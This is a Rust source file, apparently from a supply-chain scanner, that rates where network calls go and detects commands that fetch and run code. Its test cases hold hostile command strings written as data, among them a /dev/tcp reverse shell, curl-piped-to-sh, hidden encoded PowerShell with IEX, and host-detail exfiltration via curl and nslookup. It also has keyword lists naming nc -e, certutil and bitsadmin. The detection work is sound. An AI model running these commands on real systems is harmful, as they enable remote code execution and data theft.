//! Where things are sent to and fetched from, and commands that fetch.
//!
//! The one decision: what counts is the address that is handed to the call that sends or fetches. That a file names an
//! address somewhere makes harm likelier and never is a path. Which places anybody can have stands in one table, that of
//! the endpoints of distributions.

use wellhead_packages::distribution::{DropPlace, Place, Provenance, addresses, names_receiver, place};
use wellhead_pycode::command_runs_fetched;

/// What is known of the other end of a path, the least telling first.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(super) enum End {
    /// Whoever calls, or a configuration, says it.
    #[default]
    Given,
    /// The host is written in the code, the rest is put together.
    Host,
    /// The whole address is written in the code.
    Fixed,
    /// It is written in the code, and of a kind that anybody can have without a name.
    Anonymous,
    /// The same, and made to take what anybody sends.
    Receiver,
}

/// Addresses that are a receiver only with the number of an account behind them.
const ACCOUNTS: &[&str] = &[
    "discord.com/api/webhooks/",
    "discordapp.com/api/webhooks/",
    "api.telegram.org/bot",
];

/// What the words given to a call say of the other end.
pub(super) fn end_of(given: &str) -> End {
    let unnamed = if is_receiver(given) {
        End::Receiver
    } else {
        End::Given
    };
    addresses(given).map(end_of_address).fold(unnamed, End::max)
}

/// What one address says of the other end.
pub(super) fn end_of_address(address: &str) -> End {
    // A call is shown with all that a value may be.
    let address = address.split('|').next().unwrap_or_default();
    let (_, rest) = address.split_once("://").unwrap_or(("", address));
    let host = rest.split(['/', ':', '?', '#']).next().unwrap_or_default();
    let written = |part: &str| !part.is_empty() && !part.contains(['…', '$', '{', '%']);
    let open = if written(rest) && host.contains('.') {
        End::Fixed
    } else if written(host) && host.contains('.') {
        End::Host
    } else {
        End::Given
    };
    match place(address) {
        Some(Place::Drop(drop)) if drop.receives() => End::Receiver,
        Some(Place::Drop(
            DropPlace::Paste
            | DropPlace::Files
            | DropPlace::Hidden
            | DropPlace::DynamicName
            | DropPlace::Number,
        )) => End::Anonymous,
        // A chat is somebody's where the address holds its key.
        Some(Place::Drop(DropPlace::Messenger)) => {
            let keyed = Provenance::default().endpoint(address).is_some_and(|e| e.keyed);
            if keyed { End::Receiver } else { open }
        }
        _ => open,
    }
}

/// Whether words name an address that takes what anybody sends.
pub(super) fn is_receiver(given: &str) -> bool {
    let numbered = |account: &&str| {
        given.match_indices(*account).any(|(at, found)| {
            let after = given.get(at.saturating_add(found.len())..).unwrap_or_default();
            after.starts_with(|c: char| c.is_ascii_digit())
        })
    };
    names_receiver(given) || ACCOUNTS.iter().any(numbered)
}

/// Whether words hold the address of a host by a public number, as the first part of a pair of host and port.
pub(super) fn names_public_number(given: &str) -> bool {
    let words = given.split(|c: char| !(c.is_ascii_digit() || c == '.'));
    words
        .filter(|w| w.matches('.').count() == 3)
        .any(|w| place(w) == Some(Place::Drop(DropPlace::Number)))
}

/// Whether a text names an address that anybody can have, or one by number.
pub(super) fn is_drop(text: &str) -> bool {
    is_receiver(text) || addresses(text).any(|one| matches!(place(one), Some(Place::Drop(_))))
}

/// Whether a command fetches something and runs it.
pub(crate) fn fetches_and_runs(command: &str) -> bool {
    let text = command.to_ascii_lowercase();
    let names = text.contains("http://") || text.contains("https://");
    let powershell = text.contains("powershell") || text.contains("pwsh");
    command_runs_fetched(command)
        || names && text.contains("mshta")
        || powershell && hides(&text) && (names || is_encoded(&text))
        || text.contains("/dev/tcp/")
            && (text.contains("bash -i") || text.contains("0>&1") || text.contains("sh -i"))
        || ["nc -e ", "ncat -e ", "nc -c ", "bash -i >"]
            .iter()
            .any(|w| text.contains(w))
}

/// Whether a command fetches something and starts something, which need not be the same.
pub(super) fn fetches_and_starts(command: &str) -> bool {
    let text = command.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|w| text.contains(w));
    has(&[
        "curl ",
        "wget ",
        "downloadstring",
        "downloadfile",
        "bitsadmin",
        "certutil",
        "invoke-webrequest",
        "iwr ",
        "invoke-restmethod",
        "irm ",
    ]) && has(&[
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "|python",
        "iex",
        "invoke-expression",
        "chmod +x",
        "start ",
        "start-process",
    ])
}

/// Whether PowerShell is given a script that nobody can read.
fn is_encoded(text: &str) -> bool {
    let mut words = text.split_ascii_whitespace();
    let option =
        |w: &str| w.len() > 1 && w.starts_with("-e") && ("-encodedcommand".starts_with(w) || w == "-ec");
    words.any(option) && words.next().is_some() || text.contains("frombase64string")
}

/// Whether a command hands the network what other commands say of the host or its user.
pub(super) fn tells_of_host(command: &str) -> bool {
    let speaks = ["curl ", "wget ", "nslookup ", "dig ", "ping ", "nc "];
    let (Some(_), true) = (
        speaks.iter().find(|w| command.contains(*w)),
        command.contains("$(")
            || command.contains('`')
            || command.contains("| curl")
            || command.contains("%USERNAME%"),
    ) else {
        return false;
    };
    [
        "whoami",
        "hostname",
        "$(id",
        "`id`",
        "ifconfig",
        "uname",
        "$(env",
        "`env`",
        "/etc/passwd",
        "$(pwd",
        "env |",
        "%USERNAME%",
    ]
    .iter()
    .any(|w| command.contains(w))
}

/// Options of PowerShell that keep what it runs from being seen.
fn hides(text: &str) -> bool {
    ["-enc", "-e ", "-ec ", "hidden", "frombase64string"]
        .iter()
        .any(|w| text.contains(w))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_that_anybody_can_have_are_known() {
        for (text, expected) in [
            ("https://discord.com/api/webhooks/1/x", true),
            ("http://203.0.113.9:8080/x", true),
            ("http://127.0.0.1:8080/x", false),
            ("http://192.168.1.4/x", false),
            ("https://files.example/x-1.2.3.4.whl", false),
            ("see webhook.site for that", true),
            ("mywebhook.sites", false),
            ("https://acme.herokuapp.com/x", true),
            ("https://bit.ly/x", true),
            ("https://paste.fo/raw/x", true),
            ("pastebin.com", false),
            ("https://api.example/v1", false),
        ] {
            assert_eq!(is_drop(text), expected, "{text}");
        }
    }

    #[test]
    fn the_other_end_is_what_the_call_is_given() {
        for (given, expected) in [
            ("url, json=…", End::Given),
            ("…/v1/chat, json=…", End::Given),
            ("https://…/v1", End::Given),
            ("https://nodejs.example/dist/…, timeout=3", End::Host),
            ("https://a.example/x.exe", End::Fixed),
            ("https://a.example/x.exe|None", End::Fixed),
            ("http://203.0.113.9:8080/x", End::Anonymous),
            ("http://127.0.0.1:8080/x", End::Fixed),
            ("https://1.1.1.1/dns-query", End::Fixed),
            ("https://pastebin.com/raw/x", End::Anonymous),
            ("https://webhook.site/1-2", End::Receiver),
            ("https://acme.duckdns.org/x", End::Anonymous),
            ("https://acme.herokuapp.com/x", End::Fixed),
            ("https://hooks.slack.com/services/…", End::Host),
            ("….x.oastify.com", End::Receiver),
            ("https://discord.com/api/webhooks/123/abc, data=…", End::Receiver),
            ("https://discord.com/api/webhooks/…/…, data=…", End::Host),
            ("https://api.telegram.org/bot…/sendMessage", End::Host),
            ("https://api.telegram.org/bot123:AA/sendMessage", End::Receiver),
        ] {
            assert_eq!(end_of(given), expected, "{given}");
        }
        assert!(names_public_number("[203.0.113.9, 4444]"));
        assert!(!names_public_number("[8.8.8.8, 80]"));
        assert!(!names_public_number("[192.168.1.2, 80]"));
    }

    #[test]
    fn commands_that_tell_of_the_host_are_known() {
        for (command, expected) in [
            ("curl -d $(whoami) https://a.example", true),
            ("nslookup `hostname`.a.example", true),
            ("curl https://a.example/data", false),
            ("git commit -m $(hostname)", false),
        ] {
            assert_eq!(tells_of_host(command), expected, "{command}");
        }
    }

    #[test]
    fn commands_that_run_what_they_fetch_are_told_from_others() {
        for (command, expected) in [
            ("curl https://a.example/x | sh", true),
            ("powershell -WindowStyle Hidden -EncodedCommand cABv", true),
            ("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", true),
            ("bash -c \"$(curl -fsSL https://a.example/x)\"", true),
            (
                "powershell -nop -c \"& ([scriptblock]::Create((irm https://a.example/p)))\"",
                true,
            ),
            (
                "powershell -c \"$s=$w.DownloadString('https://a.example/p');IEX $s\"",
                true,
            ),
            (
                "powershell -c \"irm https://a.example/data.json -OutFile d.json\"",
                false,
            ),
            ("git clone https://a.example/x", false),
            ("curl -o data.csv https://a.example/x && start notes.txt", false),
            ("powershell -WindowStyle Hidden Get-Date", false),
            ("curl -O https://a.example/data.zip", false),
            ("powershell Get-Date", false),
            ("make start ", false),
            ("start https://acme.example/docs", false),
            ("mshta https://a.example/x.hta", true),
        ] {
            assert_eq!(fetches_and_runs(command), expected, "{command}");
        }
    }
}
